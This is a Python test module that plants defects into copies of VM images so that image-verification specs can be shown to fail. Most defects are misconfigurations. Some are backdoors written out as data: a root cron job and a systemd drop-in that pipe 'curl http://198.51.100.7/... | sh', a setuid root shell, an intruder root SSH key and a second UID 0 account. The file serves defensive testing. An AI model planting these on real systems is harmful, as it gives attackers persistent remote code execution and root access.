"""The planted defects: one row per defect, with the specs that must fail because of it.

Each injection gets the mounted root file system of a copy of an image (or, for `box` rows, the
unpacked box beside box.img) and breaks one thing an operator would care about. Rows run in
groups: all `auto` rows of an image type go into ONE copy, verified as usual (booted where the
type boots); `offline` rows (defects that would stop the boot or the login, or that the boot
would repair) go into a second copy verified with --suitcase-mode offline. Within a group no two
rows share a spec that must fail, so every row is shown to be caught on its own.
"""

from __future__ import annotations

import os
import re
import subprocess
import tempfile
from dataclasses import dataclass
from pathlib import Path

from tests.slow.defect_images import Injection, Kit

PARITY = "test_same_packages_and_config_as_master"
INTRUDER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHBhY2tlcg intruder@build\n"
FAKE_HASH = "$6$defect$" + "x" * 86  # shaped like a SHA-512 crypt hash; matches no password


def _path(root: Path, rel: str) -> Path:
    """`root/rel`, refusing any symlink on the way: an image's absolute link would lead out of
    the image into this machine's own files."""
    path = root
    for part in Path(rel.lstrip("/")).parts[:-1]:
        path = path / part
        assert not path.is_symlink(), f"{path} is a symlink: not writing through it"
    return path / Path(rel).name


def _write(root: Path, rel: str, text: str, mode: int | None = None) -> None:
    path = _path(root, rel)
    if path.is_symlink():
        path.unlink()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    if mode is not None:
        path.chmod(mode)


def _edit(root: Path, rel: str, old: str, new: str, count: int = 1) -> None:
    """Replace `old` (a regex) in a file; the defect must really change it."""
    path = _path(root, rel)
    assert path.is_file() and not path.is_symlink(), f"{rel} is not a regular file"
    text, made = re.subn(old, new, path.read_text(), count=count, flags=re.M)
    assert made, f"{old!r} not found in {rel}: the defect would not be a defect"
    path.write_text(text)


def _append(root: Path, rel: str, text: str) -> None:
    path = _path(root, rel)
    assert path.is_file() and not path.is_symlink(), f"{rel} is not a regular file"
    with path.open("a") as handle:
        handle.write(text)


def _unlink(root: Path, rel: str) -> None:
    path = _path(root, rel)
    assert path.exists() or path.is_symlink(), f"{rel} is missing: nothing to remove"
    path.unlink()


def _add_user(root: Path, name: str, uid: int, home: str) -> None:
    _append(root, "/etc/passwd", f"{name}:x:{uid}:{uid}:{name}:{home}:/bin/bash\n")
    _append(root, "/etc/group", f"{name}:x:{uid}:\n")
    _append(root, "/etc/shadow", f"{name}:*:19700:0:99999:7:::\n")


def _shadow_field(root: Path, user: str, value: str) -> None:
    _edit(root, "/etc/shadow", rf"^{user}:[^:]*:", f"{user}:{value}:")


def _without_modules(root: Path, modules: tuple[str, ...]) -> None:
    """Repack every initramfs (its main archive) without the given kernel modules."""
    images = sorted((root / "boot").glob("initrd.img-*"))
    assert images, "no initramfs in /boot"
    for initrd in images:
        with tempfile.TemporaryDirectory() as tmp:
            subprocess.run(["unmkinitramfs", str(initrd), tmp], check=True)
            tree = Path(tmp) / "main" if (Path(tmp) / "main").is_dir() else Path(tmp)
            found = [p for m in modules for p in tree.rglob(f"{m}.ko*")]
            assert found, f"no {modules} in {initrd.name}: the defect would not be a defect"
            for path in found:
                path.unlink()
            archive = subprocess.run(
                f"cd {tree} && find . | cpio -o -H newc --quiet | zstd -q",
                shell=True,
                capture_output=True,
                check=True,
            ).stdout
            initrd.write_bytes(archive)


# -- accounts ----------------------------------------------------------------------------------
def second_uid0(root: Path, kit: Kit) -> None:
    _append(root, "/etc/passwd", "toor:x:0:0::/root:/bin/bash\n")
    _append(root, "/etc/shadow", "toor:*:19700:0:99999:7:::\n")


def build_user(root: Path, kit: Kit) -> None:
    _add_user(root, "packer", 1001, "/home/packer")


def vagrant_user(root: Path, kit: Kit) -> None:
    _add_user(root, "vagrant", 1000, "/home/vagrant")


def sudoers_d_build_rule(root: Path, kit: Kit) -> None:
    _write(root, "/etc/sudoers.d/90-build", "packer ALL=(ALL) NOPASSWD: ALL\n", 0o440)


def sudoers_appended_rule(root: Path, kit: Kit) -> None:
    _append(root, "/etc/sudoers", "packer ALL=(ALL) NOPASSWD: ALL\n")


def sudo_only_a_shell(root: Path, kit: Kit) -> None:
    """vagrant may run /bin/sh without a password (testinfra's sudo works), nothing else."""
    _edit(root, "/etc/sudoers.d/vagrant", r"NOPASSWD:\s*ALL", "NOPASSWD: /bin/sh")


def root_password(root: Path, kit: Kit) -> None:
    _shadow_field(root, "root", FAKE_HASH)


def empty_password(root: Path, kit: Kit) -> None:
    _shadow_field(root, "daemon", "")


# -- keys and sshd -----------------------------------------------------------------------------
def intruder_root_key(root: Path, kit: Kit) -> None:
    _write(root, "/root/.ssh/authorized_keys", INTRUDER_KEY, 0o600)


def build_key_for_root(root: Path, kit: Kit) -> None:
    _write(root, "/root/.ssh/authorized_keys", kit.build_key + "\n", 0o600)


def build_key_for_vagrant(root: Path, kit: Kit) -> None:
    _append(root, "/home/vagrant/.ssh/authorized_keys", "\n" + kit.build_key + "\n")


def insecure_key_missing(root: Path, kit: Kit) -> None:
    _write(root, "/home/vagrant/.ssh/authorized_keys", "", 0o600)


def sudo_needs_password(root: Path, kit: Kit) -> None:
    _edit(root, "/etc/sudoers.d/vagrant", r"NOPASSWD:\s*", "")


def permit_root_login(root: Path, kit: Kit) -> None:
    _edit(root, "/etc/ssh/sshd_config", r"\A", "PermitRootLogin yes\n")


def password_authentication(root: Path, kit: Kit) -> None:
    _edit(root, "/etc/ssh/sshd_config", r"\A", "PasswordAuthentication yes\n")


def sshd_disabled(root: Path, kit: Kit) -> None:
    for rel in (
        "/etc/systemd/system/multi-user.target.wants/ssh.service",
        "/etc/systemd/system/sshd.service",
    ):
        if _path(root, rel).is_symlink():
            _unlink(root, rel)


def host_keys_left(root: Path, kit: Kit) -> None:
    _write(root, "/etc/ssh/ssh_host_ed25519_key", "left behind by the build\n", 0o600)


def host_key_baked_elsewhere(root: Path, kit: Kit) -> None:
    """sshd runs on a key baked under another name; neither boot nor cloud-init makes keys."""
    key = _path(root, "/etc/ssh/baked/host_ed25519_key")
    key.parent.mkdir(mode=0o755)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    _write(
        root, "/etc/ssh/sshd_config.d/00-baked.conf", "HostKey /etc/ssh/baked/host_ed25519_key\n"
    )
    _write(
        root,
        "/etc/systemd/system/ssh.service.d/zz-no-keygen.conf",
        "[Service]\nExecStartPre=\nExecStartPre=/usr/sbin/sshd -t\n",
    )
    _write(root, "/etc/cloud/cloud.cfg.d/99-no-keygen.cfg", "ssh_genkeytypes: []\n")


def sshd_restarted_by_cloud_init(root: Path, kit: Kit) -> None:
    _write(root, "/etc/cloud/cloud.cfg.d/99-pwauth.cfg", "ssh_pwauth: false\n")


# -- build leftovers ---------------------------------------------------------------------------
def root_build_script(root: Path, kit: Kit) -> None:
    _write(root, "/root/build.sh", "#!/bin/sh\napt-get install -y everything\n")


def shell_history(root: Path, kit: Kit) -> None:
    _write(root, "/root/.bash_history", "apt-get clean\n", 0o600)


def tmp_leftover(root: Path, kit: Kit) -> None:
    _write(root, "/var/tmp/packer-provision.sh", "#!/bin/sh\n")


def apt_lists(root: Path, kit: Kit) -> None:
    _write(root, "/var/lib/apt/lists/mirror.invalid_debian_dists_bookworm_InRelease", "Origin\n")


def apt_archive(root: Path, kit: Kit) -> None:
    _write(root, "/var/cache/apt/archives/intruder_1.0_all.deb", "!<arch>\n")


def dhcp_lease(root: Path, kit: Kit) -> None:
    _write(root, "/var/lib/dhcp/dhclient.build0.leases", "lease { fixed-address 10.0.2.15; }\n")


def build_logins(root: Path, kit: Kit) -> None:
    _write(root, "/var/log/btmp", "\0" * 384)


def build_journal(root: Path, kit: Kit) -> None:
    _write(root, "/var/log/journal/0123456789abcdef0123456789abcdef/system.journal", "LPKSHHRH")


def cloud_init_state(root: Path, kit: Kit) -> None:
    _write(root, "/var/lib/cloud/instances/i-0build/obj.pkl", "state\n")
    _write(root, "/var/lib/cloud/data/instance-id", "i-0build\n")
    link = _path(root, "/var/lib/cloud/instance")
    link.symlink_to("/var/lib/cloud/instances/i-0build")


def guest_additions_iso(root: Path, kit: Kit) -> None:
    _write(root, "/home/vagrant/VBoxGuestAdditions.iso", "CD001\n")


def machine_id(root: Path, kit: Kit) -> None:
    _write(root, "/etc/machine-id", "0123456789abcdef0123456789abcdef\n", 0o444)


def package_not_in_master(root: Path, kit: Kit) -> None:
    _append(
        root,
        "/var/lib/dpkg/status",
        "\nPackage: suitcase-intruder\nStatus: install ok installed\n"
        "Priority: optional\nSection: misc\nMaintainer: nobody <nobody@invalid>\n"
        "Architecture: all\nVersion: 1.0\nDescription: injected by a test\n",
    )


def cloud_init_removed(root: Path, kit: Kit) -> None:
    _edit(
        root,
        "/var/lib/dpkg/status",
        r"^(Package: cloud-init\n)Status: install ok installed$",
        r"\1Status: deinstall ok config-files",
    )


def nscd_disabled(root: Path, kit: Kit) -> None:
    _unlink(root, "/etc/systemd/system/multi-user.target.wants/nscd.service")


# -- identity and network ----------------------------------------------------------------------
def build_resolver(root: Path, kit: Kit) -> None:
    _write(root, "/etc/resolv.conf", "nameserver 10.0.2.3\nsearch build.invalid\n", 0o644)


def dangling_resolv_conf(root: Path, kit: Kit) -> None:
    """A link to a resolver that is not installed, and dhclient told to leave it alone."""
    path = _path(root, "/etc/resolv.conf")
    if path.exists() or path.is_symlink():
        path.unlink()
    path.symlink_to("../run/systemd/resolve/stub-resolv.conf")
    _write(
        root, "/etc/dhcp/dhclient-enter-hooks.d/zz-keep-resolv-conf", "make_resolv_conf() { :; }\n"
    )


def pinned_mac(root: Path, kit: Kit) -> None:
    _write(
        root,
        "/etc/udev/rules.d/70-persistent-net.rules",
        'SUBSYSTEM=="net", ACTION=="add", ATTR{address}=="52:54:00:12:34:56", NAME="eth0"\n',
    )


def eth0_renamed(root: Path, kit: Kit) -> None:
    _write(
        root,
        "/etc/udev/rules.d/10-lan0.rules",
        'SUBSYSTEM=="net", ACTION=="add", KERNEL=="eth0", NAME="lan0"\n',
    )
    _write(root, "/etc/network/interfaces.d/lan0", "allow-hotplug lan0\niface lan0 inet dhcp\n")


def no_ec2_datasource(root: Path, kit: Kit) -> None:
    _write(root, "/etc/cloud/cloud.cfg.d/99-ds.cfg", "datasource_list: [ NoCloud, None ]\n")


def nocloud_listed(root: Path, kit: Kit) -> None:
    """The old list: a cidata volume attached to an instance would configure it."""
    _write(root, "/etc/cloud/cloud.cfg.d/99-ds.cfg", "datasource_list: [ NoCloud, Ec2, None ]\n")


def cloud_init_disabled(root: Path, kit: Kit) -> None:
    _write(root, "/etc/cloud/cloud-init.disabled", "")


def cloud_init_error(root: Path, kit: Kit) -> None:
    _write(root, "/etc/cloud/cloud.cfg.d/99-runcmd.cfg", "runcmd:\n  - [ sh, -c, 'exit 3' ]\n")


# -- boot correctness --------------------------------------------------------------------------
EXTLINUX = "/boot/extlinux/extlinux.conf"
GRUB_CONF = "/boot/grub/grub.conf"


def kernel_root_stale_uuid(root: Path, kit: Kit) -> None:
    _edit(root, EXTLINUX, r"root=\S+", "root=UUID=0badc0de-0000-4000-8000-000000000000", 0)


def kernel_root_device(root: Path, kit: Kit) -> None:
    _edit(root, EXTLINUX, r"root=\S+", "root=/dev/vda1", 0)


def fstab_device(root: Path, kit: Kit) -> None:
    _edit(root, "/etc/fstab", r"^\S+(\s+/\s)", r"/dev/vda1\1")


def fstab_wrong_type(root: Path, kit: Kit) -> None:
    _edit(root, "/etc/fstab", r"^(\S+\s+/\s+)ext4\b", r"\1ext3")


def wrong_serial_console(root: Path, kit: Kit) -> None:
    _edit(root, EXTLINUX, r"console=ttyS0,115200n8", "console=ttyS1,9600", 0)


def no_xen_blkfront(root: Path, kit: Kit) -> None:
    _without_modules(root, ("xen-blkfront",))


def no_nvme_in_initramfs(root: Path, kit: Kit) -> None:
    _without_modules(root, ("nvme",))


def no_ena_in_initramfs(root: Path, kit: Kit) -> None:
    _without_modules(root, ("ena",))


def no_ena_driver(root: Path, kit: Kit) -> None:
    found = list((root / "lib" / "modules").rglob("ena.ko*"))
    assert found, "no ena module: the defect would not be a defect"
    for path in found:
        path.unlink()


def no_sriov_driver(root: Path, kit: Kit) -> None:
    found = list((root / "lib" / "modules").rglob("ixgbevf.ko*"))
    assert found, "no ixgbevf module: the defect would not be a defect"
    for path in found:
        path.unlink()


def menu_lst_missing(root: Path, kit: Kit) -> None:
    _unlink(root, "/boot/grub/menu.lst")


def grub_root_partition(root: Path, kit: Kit) -> None:
    _edit(root, GRUB_CONF, r"^(\s*)root\s+\(hd0\)", r"\1root (hd0,0)", 0)


def pv_console_tty(root: Path, kit: Kit) -> None:
    _edit(root, GRUB_CONF, r"console=hvc0", "console=tty0", 0)


def pv_kernel_missing(root: Path, kit: Kit) -> None:
    _edit(root, GRUB_CONF, r"^(\s*kernel\s+)\S+", r"\1/boot/vmlinuz-missing", 0)


def pv_interface_names(root: Path, kit: Kit) -> None:
    _edit(root, GRUB_CONF, r" net\.ifnames=0", "", 0)


def interface_names(root: Path, kit: Kit) -> None:
    _edit(root, EXTLINUX, r" net\.ifnames=0", "", 0)


# -- permissions -------------------------------------------------------------------------------
def world_writable_usr(root: Path, kit: Kit) -> None:
    target = _path(root, "/usr/local/bin")
    target.chmod(target.stat().st_mode | 0o002)


def world_writable_boot(root: Path, kit: Kit) -> None:
    target = _path(root, EXTLINUX)
    target.chmod(target.stat().st_mode | 0o002)


# -- the box -----------------------------------------------------------------------------------
def box_wrong_provider(box: Path, kit: Kit) -> None:
    _edit(box, "/metadata.json", r'"provider":\s*"libvirt"', '"provider": "virtualbox"')


# -- aws-hvm's VMDK ----------------------------------------------------------------------------
def vmdk_one_block_differs(vmdk: Path, kit: Kit) -> None:
    """The VMDK made again from a copy of the verified disk with 64 KiB changed at 1 MiB (inside
    the boot loader's gap, so the raw disk itself stays sound)."""
    raw = vmdk.with_name(".vmdk-defect.raw")
    try:
        subprocess.run(["qemu-img", "convert", "-O", "raw", str(vmdk), str(raw)], check=True)
        with raw.open("r+b") as handle:
            handle.seek(1 << 20)
            handle.write(b"\xa5" * 65536)
        subprocess.run(
            [
                "qemu-img",
                "convert",
                "-O",
                "vmdk",
                "-o",
                "subformat=streamOptimized",
                str(raw),
                str(vmdk.with_name(vmdk.name + ".partial")),
            ],
            check=True,
        )
        vmdk.with_name(vmdk.name + ".partial").replace(vmdk)
    finally:
        raw.unlink(missing_ok=True)


# --- files nobody explains (issue 21, item 1): caught by specs/common/test_explained.py ------


def apt_proxy(root: Path, kit: Kit) -> None:
    _write(root, "/etc/apt/apt.conf.d/99proxy", 'Acquire::http::Proxy "http://10.0.2.2:3128";\n')


def cron_beacon(root: Path, kit: Kit) -> None:
    _write(root, "/etc/cron.d/beacon", "*/5 * * * * root curl -s http://198.51.100.7/b | sh\n")


def profile_env(root: Path, kit: Kit) -> None:
    _write(root, "/etc/profile.d/build-env.sh", "export http_proxy=http://10.0.2.2:3128\n")


def ssh_client_config(root: Path, kit: Kit) -> None:
    _write(root, "/etc/ssh/ssh_config.d/build.conf", "Host *\n  StrictHostKeyChecking no\n")


def service_drop_in(root: Path, kit: Kit) -> None:
    _write(
        root,
        "/etc/systemd/system/cloud-init.service.d/override.conf",
        "[Service]\nExecStartPre=/bin/sh -c 'curl -s http://198.51.100.7/c | sh'\n",
    )


def fstab_mount(root: Path, kit: Kit) -> None:
    _append(root, "/etc/fstab", "10.0.2.2:/export\t/mnt\tnfs\tdefaults,nofail\t0\t0\n")


def crash_dump(root: Path, kit: Kit) -> None:
    dump = _path(root, "/var/crash/core.sshd.4242")
    dump.parent.mkdir(parents=True, exist_ok=True)
    with dump.open("wb") as handle:  # 72 MiB of a core file: no package owns it, and it is big
        handle.write(b"\x7fELF" + bytes(4092))
        handle.write(os.urandom(1 << 20) * 72)


def other_home_leftover(root: Path, kit: Kit) -> None:
    _write(root, "/home/admin/notes.txt", "build password: hunter2\n")


def setuid_shell(root: Path, kit: Kit) -> None:
    shell = _path(root, "/usr/local/bin/rootsh")
    dash = _path(root, "/usr/bin/dash")
    assert dash.is_file() and not dash.is_symlink(), "dash is not a regular file: not copying it"
    shell.write_bytes(dash.read_bytes())
    shell.chmod(0o4755)


def random_seed(root: Path, kit: Kit) -> None:
    _write(root, "/var/lib/systemd/random-seed", "\x17" * 512, 0o600)


def world_writable_drop(root: Path, kit: Kit) -> None:
    drop = _path(root, "/srv/drop")
    drop.mkdir()
    drop.chmod(0o777)


def readable_private_key(root: Path, kit: Kit) -> None:
    _write(
        root,
        "/etc/ssl/private/build.key",
        "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END PRIVATE KEY-----\n",
        0o644,
    )


@dataclass(frozen=True)
class Defect:
    """One planted defect: where it goes, how, and which specs it must fail."""

    image: str
    inject: Injection
    specs: frozenset[str]
    mode: str = (
        "auto"  # "auto": the copy verified as usual; "offline": the --suitcase-mode offline copy
    )
    target: str = "disk"  # "disk": the image's disk (and the box's box.img); "box": the box
    # itself; "vmdk": aws-hvm's VMDK alone
    #: spec -> a fragment its failure message must hold: rows of one copy may share a spec
    #: only when each names what it must say there (the path it planted)
    fragments: tuple[tuple[str, str], ...] = ()


def _d(
    image: str,
    inject: Injection,
    *specs: str,
    mode: str = "auto",
    target: str = "disk",
    says: dict[str, str] | None = None,
) -> Defect:
    return Defect(image, inject, frozenset(specs), mode, target, tuple((says or {}).items()))


#: the specs of specs/common/test_explained.py, each of which any planted file may fail (as
#: parity may in a derived image): a row that names one must see it fail with its fragment
EXPLAINED = "test_every_file_is_owned_declared_or_runtime_state"
PRIVILEGE = "test_privilege_only_where_declared"
WRITABLE = "test_nothing_world_writable_without_the_sticky_bit"
SECRETS = "test_no_secret_readable_by_every_user"
BUDGET = "test_what_no_package_owns_fits_the_budget"
CATCH_ALL = frozenset({EXPLAINED, PRIVILEGE, WRITABLE, SECRETS, BUDGET})


def _x(image: str, inject: Injection, path: str, *more: tuple[str, str]) -> Defect:
    """A file nobody explains at `path`: the explained spec names it (and `more` specs each
    name what they must)."""
    says = {EXPLAINED: f"{path}: unowned", **dict(more)}
    return _d(image, inject, *says, says=says)


M, V, H, P = "master", "vagrant", "aws-hvm", "aws-paravirt"
OFF = "offline"

# name -> image, injection, the specs that must fail (beside parity, which may fail in any
# derived image of a group with a defect), mode
# fmt: off
DEFECTS: dict[str, Defect] = {
    # files nobody explains, one class per row (the explained specs name each path)
    "master-apt-proxy": _x(M, apt_proxy, "/etc/apt/apt.conf.d/99proxy"),
    "master-cron-job": _x(M, cron_beacon, "/etc/cron.d/beacon"),
    "master-random-seed": _d(M, random_seed, "test_no_shared_random_seed_or_timer_stamps"),
    "master-setuid-shell": _x(M, setuid_shell, "/usr/local/bin/rootsh", (PRIVILEGE, "/usr/local/bin/rootsh: setuid")),
    "vagrant-profile-env": _x(V, profile_env, "/etc/profile.d/build-env.sh"),
    "vagrant-ssh-client-config": _x(V, ssh_client_config, "/etc/ssh/ssh_config.d/build.conf"),
    "vagrant-world-writable-drop": _x(V, world_writable_drop, "/srv/drop", (WRITABLE, "/srv/drop: world-writable without the sticky bit")),
    "aws-hvm-service-drop-in": _x(H, service_drop_in, "/etc/systemd/system/cloud-init.service.d/override.conf"),
    "aws-hvm-fstab-mount": _d(H, fstab_mount, EXPLAINED, says={EXPLAINED: "/etc/fstab: holds lines not declared"}),
    "aws-hvm-readable-private-key": _x(H, readable_private_key, "/etc/ssl/private/build.key", (SECRETS, "/etc/ssl/private/build.key: a secret readable by every user")),
    "aws-paravirt-crash-dump": _x(P, crash_dump, "/var/crash/core.sshd.4242", (BUDGET, "/var/crash/core.sshd.4242 (")),
    "aws-paravirt-other-home": _x(P, other_home_leftover, "/home/admin/notes.txt"),
    # master, booted with the build key
    "master-second-uid-0": _d(M, second_uid0, "test_only_root_has_uid_0"),
    "master-root-build-script": _d(M, root_build_script, "test_root_home_holds_only_its_skeleton"),
    "master-world-writable-usr": _d(M, world_writable_usr, "test_nothing_world_writable_in_system_trees"),
    "master-apt-lists": _d(M, apt_lists, "test_package_metadata_clean"),
    "master-permit-root-login": _d(M, permit_root_login, "test_root_login_by_key_only"),
    "master-password-authentication": _d(M, password_authentication, "test_password_authentication_off"),
    "master-var-tmp-leftover": _d(M, tmp_leftover, "test_temporary_folders_empty"),
    "master-dangling-resolv-conf": _d(M, dangling_resolv_conf, "test_resolv_conf_resolves", "test_resolv_conf_has_no_build_resolver"),
    "master-eth0-renamed": _d(M, eth0_renamed, "test_eth0_is_up_with_an_address"),
    "master-build-journal": _d(M, build_journal, "test_no_build_logins_or_journals"),
    # master, offline: these stop the boot or the build key's login
    "master-kernel-root-stale-uuid": _d(M, kernel_root_stale_uuid, "test_kernel_root_is_the_root_filesystem", mode=OFF),
    "master-sshd-disabled": _d(M, sshd_disabled, "test_sshd_enabled", mode=OFF),
    "master-build-key-replaced": _d(M, intruder_root_key, "test_master_keeps_only_the_build_key", mode=OFF),
    "master-fstab-device-node": _d(M, fstab_device, "test_fstab_does_not_name_a_device_node", "test_fstab_root_is_the_root_filesystem", mode=OFF),
    "master-host-keys-left": _d(M, host_keys_left, "test_no_ssh_host_keys", mode=OFF),
    # vagrant, booted with the insecure key (disk.qcow2 and the box's box.img alike)
    "vagrant-sudoers-d-build-rule": _d(V, sudoers_d_build_rule, "test_sudo_rules_are_declared"),
    "vagrant-build-user": _d(V, build_user, "test_login_users_are_declared"),
    "vagrant-root-key": _d(V, intruder_root_key, "test_root_keys_wiped"),
    "vagrant-machine-id": _d(V, machine_id, "test_machine_id_empty"),
    "vagrant-dhcp-lease": _d(V, dhcp_lease, "test_no_dhcp_leases"),
    "vagrant-root-password": _d(V, root_password, "test_root_password_locked", "test_no_account_has_a_password"),
    "vagrant-package-not-in-master": _d(V, package_not_in_master, PARITY),
    "vagrant-shell-history": _d(V, shell_history, "test_no_shell_history", "test_root_home_holds_only_its_skeleton"),
    "vagrant-guest-additions-iso": _d(V, guest_additions_iso, "test_no_guest_additions_iso"),
    "vagrant-build-key-trusted": _d(V, build_key_for_vagrant, "test_no_build_key"),
    "vagrant-build-logins": _d(V, build_logins, "test_no_build_logins_or_journals"),
    "vagrant-apt-archive": _d(V, apt_archive, "test_package_caches_clean", "test_package_metadata_clean"),
    "vagrant-sudo-only-a-shell": _d(V, sudo_only_a_shell, "test_vagrant_can_sudo", "test_passwordless_sudo_without_tty"),
    "vagrant-box-wrong-provider": _d(V, box_wrong_provider, "test_box_metadata", target="box"),
    # vagrant, offline: these stop vagrant's login or its sudo
    "vagrant-insecure-key-missing": _d(V, insecure_key_missing, "test_vagrant_user_has_the_insecure_key", mode=OFF),
    "vagrant-sudo-needs-password": _d(V, sudo_needs_password, "test_passwordless_sudo_without_tty", mode=OFF),
    # aws-hvm, booted with a NoCloud seed
    "aws-hvm-vagrant-user": _d(H, vagrant_user, "test_no_vagrant_user", "test_login_users_are_declared"),
    "aws-hvm-root-key": _d(H, intruder_root_key, "test_root_authorized_keys_only_a_newline"),
    "aws-hvm-vmdk-differs": _d(H, vmdk_one_block_differs, "test_vmdk_holds_the_verified_disk", target="vmdk"),
    "aws-hvm-host-keys-left": _d(H, host_keys_left, "test_no_ssh_host_keys", mode=OFF),
    "aws-hvm-wrong-console": _d(H, wrong_serial_console, "test_serial_console_on_kernel_line", "test_booted_kernel_uses_the_serial_console"),
    "aws-hvm-no-ec2-datasource": _d(H, no_ec2_datasource, "test_ec2_datasource_listed", "test_datasources_are_the_platform_s_only"),
    "aws-hvm-pinned-mac": _d(H, pinned_mac, "test_no_interface_pinned_to_the_build_network"),
    "aws-hvm-build-resolver": _d(H, build_resolver, "test_resolv_conf_has_no_build_resolver"),
    "aws-hvm-world-writable-boot": _d(H, world_writable_boot, "test_nothing_world_writable_in_system_trees"),
    "aws-hvm-sshd-restarted": _d(H, sshd_restarted_by_cloud_init, "test_first_boot_does_not_restart_sshd"),
    "aws-hvm-host-key-baked-elsewhere": _d(H, host_key_baked_elsewhere, "test_host_keys_generated_at_first_boot", "test_no_ssh_host_keys"),
    "aws-hvm-no-sriov-driver": _d(H, no_sriov_driver, "test_sriov_drivers_shipped"),
    "aws-hvm-no-ena-driver": _d(H, no_ena_driver, "test_ena_driver_shipped"),
    "aws-hvm-no-ena-in-initramfs": _d(H, no_ena_in_initramfs, "test_ena_in_initramfs", mode=OFF),
    "aws-hvm-cloud-init-error": _d(H, cloud_init_error, "test_cloud_init_finished_without_errors"),
    # aws-hvm, offline: cloud-init must not run, or the boot would repair the defect
    "aws-hvm-cloud-init-disabled": _d(H, cloud_init_disabled, "test_cloud_init_enabled", mode=OFF),
    "aws-hvm-kernel-root-device": _d(H, kernel_root_device, "test_kernel_root_is_the_root_filesystem", mode=OFF),
    "aws-hvm-no-nvme-in-initramfs": _d(H, no_nvme_in_initramfs, "test_nitro_drivers_in_initramfs", mode=OFF),
    "aws-hvm-cloud-init-state": _d(H, cloud_init_state, "test_cloud_init_state_clean", mode=OFF),
    # aws-paravirt (verified offline: it cannot boot here)
    "aws-paravirt-nocloud-listed": _d(P, nocloud_listed, "test_datasources_are_the_platform_s_only"),
    "aws-paravirt-dangling-resolv-conf": _d(P, dangling_resolv_conf, "test_resolv_conf_has_no_build_resolver"),
    "aws-paravirt-menu-lst-missing": _d(P, menu_lst_missing, "test_menu_lst_links_to_grub_conf"),
    "aws-paravirt-root-partition": _d(P, grub_root_partition, "test_root_hd0"),
    "aws-paravirt-console-tty0": _d(P, pv_console_tty, "test_console_hvc0"),
    "aws-paravirt-kernel-missing": _d(P, pv_kernel_missing, "test_kernel_and_initrd_exist"),
    "aws-paravirt-no-xen-blkfront": _d(P, no_xen_blkfront, "test_xen_blkfront_in_initramfs"),
    "aws-paravirt-interface-names": _d(P, pv_interface_names, "test_classic_interface_names_on_kernel_line"),
    "aws-paravirt-nscd-disabled": _d(P, nscd_disabled, "test_nscd_installed_and_enabled"),
    "aws-paravirt-cloud-init-removed": _d(P, cloud_init_removed, "test_cloud_init_installed", PARITY),
    "aws-paravirt-root-fs-type": _d(P, fstab_wrong_type, "test_root_filesystem_type"),
    "aws-paravirt-build-key": _d(P, build_key_for_root, "test_no_build_key", "test_root_authorized_keys_only_a_newline"),
    "aws-paravirt-sudoers-rule": _d(P, sudoers_appended_rule, "test_sudo_rules_are_declared"),
    "aws-paravirt-empty-password": _d(P, empty_password, "test_no_account_has_a_password"),
    # the same defects in the other image types (issue 21, item 4: every (spec, image) pair
    # shown to fail); a defect that would stop a boot or a login goes into the offline copy
    "vagrant-random-seed": _d(V, random_seed, "test_no_shared_random_seed_or_timer_stamps"),
    "aws-hvm-random-seed": _d(H, random_seed, "test_no_shared_random_seed_or_timer_stamps"),
    "aws-paravirt-random-seed": _d(P, random_seed, "test_no_shared_random_seed_or_timer_stamps"),
    "vagrant-second-uid-0": _d(V, second_uid0, "test_only_root_has_uid_0"),
    "aws-hvm-second-uid-0": _d(H, second_uid0, "test_only_root_has_uid_0"),
    "aws-paravirt-second-uid-0": _d(P, second_uid0, "test_only_root_has_uid_0"),
    "aws-hvm-root-build-script": _d(H, root_build_script, "test_root_home_holds_only_its_skeleton"),
    "aws-paravirt-root-build-script": _d(P, root_build_script, "test_root_home_holds_only_its_skeleton"),
    "vagrant-world-writable-usr": _d(V, world_writable_usr, "test_nothing_world_writable_in_system_trees"),
    "aws-paravirt-world-writable-usr": _d(P, world_writable_usr, "test_nothing_world_writable_in_system_trees"),
    "aws-hvm-apt-lists": _d(H, apt_lists, "test_package_metadata_clean"),
    "aws-paravirt-apt-lists": _d(P, apt_lists, "test_package_metadata_clean"),
    "vagrant-permit-root-login": _d(V, permit_root_login, "test_root_login_by_key_only"),
    "aws-hvm-permit-root-login": _d(H, permit_root_login, "test_root_login_by_key_only"),
    "aws-paravirt-permit-root-login": _d(P, permit_root_login, "test_root_login_by_key_only"),
    "vagrant-password-authentication": _d(V, password_authentication, "test_password_authentication_off"),
    "aws-hvm-password-authentication": _d(H, password_authentication, "test_password_authentication_off"),
    "aws-paravirt-password-authentication": _d(P, password_authentication, "test_password_authentication_off"),
    "vagrant-var-tmp-leftover": _d(V, tmp_leftover, "test_temporary_folders_empty"),
    "aws-hvm-var-tmp-leftover": _d(H, tmp_leftover, "test_temporary_folders_empty"),
    "aws-paravirt-var-tmp-leftover": _d(P, tmp_leftover, "test_temporary_folders_empty"),
    "vagrant-dangling-resolv-conf": _d(V, dangling_resolv_conf, "test_resolv_conf_has_no_build_resolver", "test_resolv_conf_resolves"),
    "aws-hvm-build-journal": _d(H, build_journal, "test_no_build_logins_or_journals"),
    "aws-paravirt-build-journal": _d(P, build_journal, "test_no_build_logins_or_journals"),
    "vagrant-kernel-root-stale-uuid": _d(V, kernel_root_stale_uuid, "test_kernel_root_is_the_root_filesystem", mode=OFF),
    "aws-paravirt-kernel-root-stale-uuid": _d(P, kernel_root_stale_uuid, "test_kernel_root_is_the_root_filesystem"),
    "vagrant-sshd-disabled": _d(V, sshd_disabled, "test_sshd_enabled", mode=OFF),
    "aws-hvm-sshd-disabled": _d(H, sshd_disabled, "test_sshd_enabled", mode=OFF),
    "aws-paravirt-sshd-disabled": _d(P, sshd_disabled, "test_sshd_enabled"),
    "vagrant-fstab-device-node": _d(V, fstab_device, "test_fstab_does_not_name_a_device_node", "test_fstab_root_is_the_root_filesystem", mode=OFF),
    "aws-hvm-fstab-device-node": _d(H, fstab_device, "test_fstab_does_not_name_a_device_node", "test_fstab_root_is_the_root_filesystem", mode=OFF),
    "aws-paravirt-fstab-device-node": _d(P, fstab_device, "test_fstab_does_not_name_a_device_node", "test_fstab_root_is_the_root_filesystem"),
    "vagrant-host-keys-left": _d(V, host_keys_left, "test_no_ssh_host_keys", mode=OFF),
    "aws-paravirt-host-keys-left": _d(P, host_keys_left, "test_no_ssh_host_keys"),
